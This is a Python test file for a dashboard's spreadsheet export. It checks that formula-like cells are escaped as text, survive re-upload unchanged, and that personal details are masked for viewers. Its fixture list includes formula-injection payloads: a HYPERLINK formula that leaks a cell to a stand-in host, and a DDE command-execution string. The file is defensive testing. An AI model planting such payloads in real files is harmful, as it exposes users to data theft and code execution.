"""Tables downloaded from the dashboard open in Excel as text, and upload again unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from lib.contract.catalog import DATASETS
from lib.staff.editing import file_download
from lib.staff.spreadsheets import neutralise, restore, safe_csv
from lib.staff.uploads import read_upload

MEETINGS = DATASETS["joint_meetings"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(cell):
    safe = neutralise(cell)
    assert safe == "'" + cell and restore(safe) == cell


@pytest.mark.parametrize("cell", ["-3.5", "+12", "1e5", "-.5", "2024Q1", "三江口镇", "a=b", "", "'quoted'"])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert neutralise(cell) == cell and restore(cell) == cell


def test_safe_csv_keeps_every_row_of_a_damaged_file():
    text = 'a,b\n=1+1,x\nragged\n"never closed,=2\n'
    assert _cells(safe_csv(text)) == [["a", "b"], ["'=1+1", "x"], ["ragged"], ["never closed,=2\n"]]
    assert safe_csv(text).startswith(b"\xef\xbb\xbf") and b"\r\n" in safe_csv(text)


def test_a_downloaded_table_is_safe_and_uploads_back_unchanged(data_copy):
    rows = _cells((data_copy / MEETINGS.path).read_bytes())
    rows[1][3], rows[1][4] = "@SUM(1,1)", FORMULAS[0]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    original = read_upload(MEETINGS, "joint_meetings.csv", buffer.getvalue().encode())
    assert original.savable and "@SUM(1,1)" in original.frame["topic_zh"].tolist()

    downloaded = file_download(MEETINGS, original.content)
    cells = [cell for row in _cells(downloaded) for cell in row]
    assert {"'@SUM(1,1)", "'" + FORMULAS[0]} <= set(cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    again = read_upload(MEETINGS, "joint_meetings.csv", downloaded)
    assert again.savable and again.content == original.content
    assert again.frame.equals(original.frame)


def test_a_layer_downloads_as_it_is(data_copy):
    layer = DATASETS["industry_bases"]
    raw = (data_copy / layer.path).read_bytes()
    assert file_download(layer, raw) == raw


def test_downloads_mask_personal_details_for_viewers_only(data_copy):
    grids = DATASETS["patrol_grids"]
    raw = (data_copy / grids.path).read_bytes()
    viewer = file_download(grids, raw).decode("utf-8")
    assert "13800000001" not in viewer and "138****0001" in viewer and "网格员01" not in viewer
    assert json.loads(viewer)["features"][0]["properties"]["id"] == "pg-sjk-1"  # the rest as it was
    assert file_download(grids, raw, reveal_personal=True) == raw
    assert file_download(grids, b"{broken") == b""  # what cannot be masked does not leave
